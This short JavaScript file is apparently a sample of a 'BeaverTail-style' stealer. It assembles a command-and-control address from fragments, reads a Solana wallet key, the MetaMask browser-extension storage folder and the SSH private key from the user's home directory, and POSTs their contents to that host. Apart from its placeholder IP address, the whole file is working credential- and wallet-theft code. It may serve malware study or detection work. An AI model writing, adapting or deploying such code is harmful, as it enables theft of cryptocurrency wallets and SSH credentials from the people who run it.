// Shape of BeaverTail-style stealers: C2 IP from fragments, wallet and browser paths, upload.
const fs = require('fs');
const os = require('os');
const path = require('path');

const host = '203.0.113' + '.' + '7';
const c2 = `http://${host}:1224/uploads`;
const home = os.homedir();
const targets = [
  path.join(home, '.config', 'solana', 'id.json'),
  path.join(home, 'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'),
  path.join(home, '.ssh', 'id_rsa'),
];
const stolen = [];
for (const target of targets) {
  try {
    stolen.push(fs.readFileSync(target));
  } catch {}
}
fetch(c2, { method: 'POST', body: JSON.stringify(stolen) });
